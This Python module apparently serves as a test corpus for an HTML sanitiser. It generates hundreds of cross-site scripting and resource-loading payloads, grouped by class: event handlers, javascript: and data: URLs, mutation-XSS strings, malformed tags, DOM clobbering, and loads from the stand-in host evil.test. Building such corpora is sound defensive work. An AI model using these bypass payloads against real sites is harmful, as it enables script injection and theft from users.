"""HTML that tries to run a script or to load something, by class of attack: what a page of any site may hold.

Each payload sets ``window.ran`` where it runs, or asks ``http://evil.test/`` where it loads. The classes follow the ways
in which sanitisers were got around: event handlers, addresses with a script, attributes that are parsed anew, markup
that mutates when it is parsed a second time (mXSS: Heiderich et al., CCS 2013), foreign content, raw text elements,
table foster parenting, clobbering of the DOM, characters that parsers disagree on.
"""

from __future__ import annotations

from collections.abc import Iterator

RUN = "window.ran=1"
LOAD = "http://evil.test/x"
IMG = f"<img src=x onerror={RUN}>"
PARAGRAPH = "<p>The ferry left the harbor before sunrise, and the whole town came down to the pier to watch it go.</p>"

HANDLERS = {  # an element with an event that comes by itself, or with the pointer or the keyboard
    "img": "error load", "body": "load pageshow focus hashchange message resize scroll", "svg": "load",
    "video": "error loadstart canplay play", "audio": "error loadstart", "details": "toggle", "input": "focus blur",
    "marquee": "start bounce finish", "object": "error", "iframe": "load", "style": "load error",
    "link": "load error", "select": "focus", "textarea": "focus", "button": "focus beforetoggle click",
    "a": "click mouseover focus pointerenter auxclick", "p": "copy paste selectstart contextmenu wheel",
    "div": "animationstart animationend transitionend scrollend pointerrawupdate beforematch mouseenter",
    "math": "click mouseover", "form": "submit reset formdata", "dialog": "close cancel", "track": "cuechange",
    "embed": "load", "frameset": "load", "base": "click", "source": "error", "picture": "load", "table": "click",
    "time": "mouseover", "ruby": "keydown", "mark": "gotpointercapture", "summary": "keyup",
}  # fmt: skip
ADDRESSES = (  # how a script stands in an address
    "javascript:{0}", "JaVaScRiPt:{0}", " javascript:{0}", "\tjavascript:{0}", "java\nscript:{0}", "java\tscript:{0}",
    "&#106;avascript:{0}", "&#x6A;avascript:{0}", "&#0000106avascript:{0}", "java&Tab;script:{0}", "javascript&colon;{0}",
    "java&NewLine;script:{0}", "\x01javascript:{0}", "&#1;javascript:{0}", "javascript:/*%0a*/{0}", "javascript://%0a{0}",
    "vbscript:{0}", "livescript:{0}", "data:text/html,<script>{0}</script>", "data:text/html;base64,PHNjcmlwdD4",
    "data:image/svg+xml,<svg onload={0}>", "data:application/xhtml+xml,<script>{0}</script>", "data:,{0}",
    "view-source:javascript:{0}", "feed:javascript:{0}", "jar:javascript:{0}!/", "blob:http://evil.test/1",
    "filesystem:http://evil.test/1", "about:blank#{0}", "file:///etc/passwd", "chrome-extension://x/y.js",
)  # fmt: skip
PLACES = (  # elements whose attribute is an address
    '<a href="{0}">x</a>', '<area href="{0}">', '<form action="{0}"><input type=submit></form>', '<iframe src="{0}"></iframe>',
    '<button formaction="{0}">x</button>', '<svg><a xlink:href="{0}"><text>x</text></a></svg>', '<img src="{0}">',
    '<math><mi href="{0}">x</mi></math>', '<object data="{0}"></object>', '<embed src="{0}">', '<base href="{0}">',
    '<blockquote cite="{0}">x</blockquote>', '<meta http-equiv=refresh content="0;url={0}">', '<video poster="{0}"></video>',
)  # fmt: skip
LOADERS = (  # what asks another place without a script
    '<link rel=stylesheet href="{0}">', '<link rel=prefetch href="{0}">', '<link rel=dns-prefetch href="{0}">',
    '<link rel=icon href="{0}">', '<link rel=modulepreload href="{0}">', '<script src="{0}"></script>', '<img src="{0}">',
    '<img srcset="{0} 2x">', '<img src=x.png longdesc="{0}">', '<picture><source srcset="{0}"><img src="{0}"></picture>',
    '<video src="{0}" poster="{0}" autoplay></video>', '<audio src="{0}" autoplay></audio>', '<track src="{0}">',
    '<iframe src="{0}"></iframe>', '<iframe srcdoc="<img src={0}>"></iframe>', '<object data="{0}"></object>',
    '<embed src="{0}">', '<input type=image src="{0}">', '<body background="{0}">', '<table background="{0}"><td>x</table>',
    '<td background="{0}">x', '<style>@import "{0}"</style>', "<style>body{{background:url({0})}}</style>",
    '<p style="background:url({0})">x</p>', '<p style="background-image:image-set(\'{0}\' 1x)">x</p>',
    '<svg><image href="{0}"/></svg>', '<svg><use href="{0}#a"/></svg>', '<svg><feImage href="{0}"/></svg>',
    '<svg><style>@import "{0}"</style></svg>', '<frameset><frame src="{0}"></frameset>', '<applet archive="{0}"></applet>',
    '<meta http-equiv=refresh content="0;url={0}">', '<a ping="{0}" href="{0}">x</a>', '<html manifest="{0}">',
    '<math><mglyph src="{0}"></mglyph></math>', '<portal src="{0}"></portal>', '<link rel=import href="{0}">',
    '<ul style="list-style:url({0})"><li>x</ul>', '<p style="cursor:url({0}),auto">x</p>', '<menuitem icon="{0}">',
    '<bgsound src="{0}">', '<isindex action="{0}">', '<image src="{0}">', '<source src="{0}">', '<fencedframe src="{0}">',
)  # fmt: skip
RAW = ("noscript", "style", "title", "textarea", "xmp", "noembed", "noframes", "iframe", "template", "plaintext", "script",
       "select", "option", "math", "svg", "object", "listing", "comment")  # fmt: skip
MUTATING = (  # safe when it is parsed once, something else the next time
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;{0}\">",
    "<math><mtext><table><mglyph><style><math><img src onerror={1}>",
    "<math><mi><table><mglyph><style><img src=x onerror={1}>",
    "<svg></p><style><a id=\"</style>{0}\">",
    "<svg><style><!--</style>{0}--></style>",
    "<svg><p><style><a id=\"</style>{0}\"></p></svg>",
    "<form><math><mtext></form><form><mglyph><style></math>{0}",
    "<math><annotation-xml encoding=\"text/html\"><style>{0}</style></annotation-xml></math>",
    "<math><annotation-xml encoding=\"text/html\"><script>{1}</script></annotation-xml></math>",
    "<svg><foreignObject>{0}</foreignObject></svg>",
    "<svg><desc><table><style><title><a id=\"</title>{0}\">",
    "<svg><title><style><!--</style></title>{0}",
    "<noscript><p title=\"</noscript>{0}\">",
    "<noembed><a title=\"</noembed>{0}\">",
    "<p title=\"&lt;/p>{0}\">x</p>",
    "<p title='`{0}`'>x</p>",
    "<a title=\"&quot;>{0}\">x</a>",
    "<a title=\"&#34;&#62;{0}\">x</a>",
    "<!--><!--{0}-->", "<!--!>{0}-->", "<!---!>{0}-->", "<!-- --!>{0}-->", "<!-->{0}<!---->", "<!--->{0}-->",
    "<![CDATA[>{0}]]>", "<svg><![CDATA[{0}]]></svg>", "<svg><![CDATA[</svg>{0}]]></svg>", "<?php {0} ?>", "<!x {0}>",
    "</ {0}>", "<%{0}%>", "<![if IE]>{0}<![endif]>", "<!DOCTYPE x [<!ENTITY y '{0}'>]>&y;",
    "<table><tr><td><svg><desc><td>{0}</td></desc></svg></table>",
    "<table>{0}<tr><td>x</table>", "<table><a href='javascript:{1}'><tr><td>x</table>", "<table><style>{0}</style></table>",
    "<table><caption><svg><style>{0}</style></svg></caption></table>", "<colgroup>{0}</colgroup>",
    "<select><option><style></option></select>{0}</style>", "<select><table>{0}</table></select>",
    "<a><b><a>{0}</b></a>", "<b><p><i></b>{0}</p></i>", "<nobr><nobr>{0}</nobr>", "<button><p><button>{0}",
    "<template><s><template><s>{0}</s></template></s></template>", "<template shadowrootmode=open>{0}</template>",
    "<div><template shadowrootmode=closed><slot></slot>{0}</template></div>",
    "<xmp><p title=\"</xmp>{0}\">", "<title><a id=\"</title>{0}\">", "<textarea><a id=\"</textarea>{0}\">",
    "<iframe><a id=\"</iframe>{0}\">", "<style><a id=\"</style>{0}\">", "<plaintext>{0}", "<listing>&lt;img onerror={1}&gt;",
    "<math><![CDATA[<a]]>{0}", "<math href=javascript:{1}>CLICK</math>", "<math><maction actiontype=statusline#x>x</maction>",
    "<math><a href=\"javascript:{1}\"><mi>x</mi></a></math>", "<math><ms lquote=\"{0}\">x</ms></math>",
    "<ruby><rt><script>{1}</script></rt></ruby>", "<frameset onload={1}><frame></frameset>",
)  # fmt: skip
BROKEN = (  # tags and attributes that parsers read differently
    "<img/src=x/onerror={1}>", "<img src=x onerror\t=\n{1}>", "<img src=x\x0conerror={1}>", "<img src=x \x00onerror={1}>",
    "<img src=x onerror=\"{1}\"", "<<img src=x onerror={1}>", "<img<img src=x onerror={1}>", "<IMG SRC=x ONERROR={1}>",
    "<img src=`x`onerror={1}>", "<img src='x'onerror={1}>", "<img \"\" src=x onerror={1}>", "<img =\"\" src=x onerror={1}>",
    "<img src=x on\x00error={1}>", "<img src=x:x onerror={1}//>", "<scr\x00ipt>{1}</scr\x00ipt>", "<script\x0c>{1}</script>",
    "<script/x>{1}</script/x>", "<scrıpt>{1}</scrıpt>", "<ſcript>{1}</ſcript>", "<ＳＣＲＩＰＴ>{1}</ＳＣＲＩＰＴ>",
    "<script>{1}<!--", "<script><!--<script>{1}</script>-->", "<svg><script>{1}", "<svg><script>&#119;indow.ran=1</script>",
    "<svg><script href=data:,{1} />", "<svg><animate onbegin={1} attributeName=x>", "<svg><set onbegin={1} attributename=x>",
    "<svg><a><animate attributeName=href values=javascript:{1} /><text y=9>x</text></a></svg>",
    "<svg onload={1}>", "<svg/onload={1}//", "<svg xmlns='http://www.w3.org/2000/svg' onload='{1}'/>",
    "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>{1}</x:script>", "<xss onfocus={1} tabindex=1 autofocus>x",
    "<custom-element onclick={1}>x</custom-element>", "<p is=x-y onclick={1}>x</p>", "<p style=\"x:expression({1})\">x</p>",
    "<p style='behavior:url(#default#time2)' onbegin={1}>x</p>", "<p style=\"-moz-binding:url({2})\">x</p>",
    "<meta charset=utf-7>+ADw-script+AD4-{1}+ADw-/script+AD4-", "<a href=\"x\"onclick={1}>x</a>", "<p hidden=until-found onbeforematch={1}>x",
    "<button popovertarget=p onclick={1}>x</button><p popover id=p onbeforetoggle={1}>y", "<a href=# accesskey=x onclick={1}>x</a>",
    "\u202e<img src=x onerror={1}>", "\ufeff<script>{1}</script>", "<img src=x onerror=&#119;&#105;ndow.ran=1>",
    "<img src=x onerror={1}\u2028>", "<a href='http://a.test/\" onmouseover={1} x=\"'>x</a>", "<p lang='\" onclick={1} x=\"'>x</p>",
    "<img alt='\"><script>{1}</script>' src=http://a.test/x.png>", "<code class='language-\"><script>{1}</script>'>x</code>",
    "<td colspan='1\" onclick=\"{1}'>x</td>", "<time datetime='\"><script>{1}</script>'>x</time>",
    "<math alttext='\"><script>{1}</script>'><mi>x</mi></math>", "<abbr title='</abbr><script>{1}</script>'>x</abbr>",
)  # fmt: skip
CLOBBERING = (  # names that would take the place of the reader's own
    "body", "main", "add", "shelving", "resumed", "pictures", "known-tags", "marks-place", "keys", "undo", "location",
    "document", "cookie", "getElementById", "querySelector", "createElement", "addEventListener", "defaultView", "forms",
)  # fmt: skip


def event_handlers() -> Iterator[str]:
    """Elements with events of their own."""
    for tag, events in HANDLERS.items():
        for event in events.split():
            yield f"<{tag} on{event}={RUN} autofocus tabindex=0 src=x open>x</{tag}>"


def script_addresses() -> Iterator[str]:
    """Every way to write a script as an address in a link, and the plainest in every place for an address."""
    yield from (PLACES[0].format(address.format(RUN)) for address in ADDRESSES)
    yield from (PLACES[6].format(address.format(RUN)) for address in ADDRESSES)
    yield from (place.format(ADDRESSES[0].format(RUN)) for place in PLACES)


def loads() -> Iterator[str]:
    """What would ask another place for something."""
    return (loader.format(LOAD) for loader in LOADERS)


def raw_texts() -> Iterator[str]:
    """Elements whose content is no markup to one parser and markup to another."""
    for tag in RAW:
        yield f"<{tag}>{IMG}</{tag}>"
        yield f'<{tag}><a title="</{tag}>{IMG}">x</a></{tag}>'


def mutations() -> Iterator[str]:
    """What is something else when it is parsed anew."""
    return (payload.format(IMG, RUN) for payload in MUTATING)


def malformed() -> Iterator[str]:
    """What parsers read differently."""
    return (payload.format(IMG, RUN, LOAD) for payload in BROKEN)


def clobbering() -> Iterator[str]:
    """Elements that take names."""
    for name in CLOBBERING:
        yield f'<a id="{name}" name="{name}" href="http://evil.test/">x</a>'
        yield f'<form id="{name}" name="{name}"><input name="action"><input name="attributes"></form>'


CLASSES = {
    kind.__name__: tuple(kind())
    for kind in (event_handlers, script_addresses, loads, raw_texts, mutations, malformed, clobbering)
}
PAYLOADS = tuple(payload for payloads in CLASSES.values() for payload in payloads)


def within_an_article(hostile: str) -> str:
    """A page whose article has something hostile in its midst."""
    return f"<article><h1>One</h1>{PARAGRAPH * 5}{hostile}{PARAGRAPH * 5}</article>"
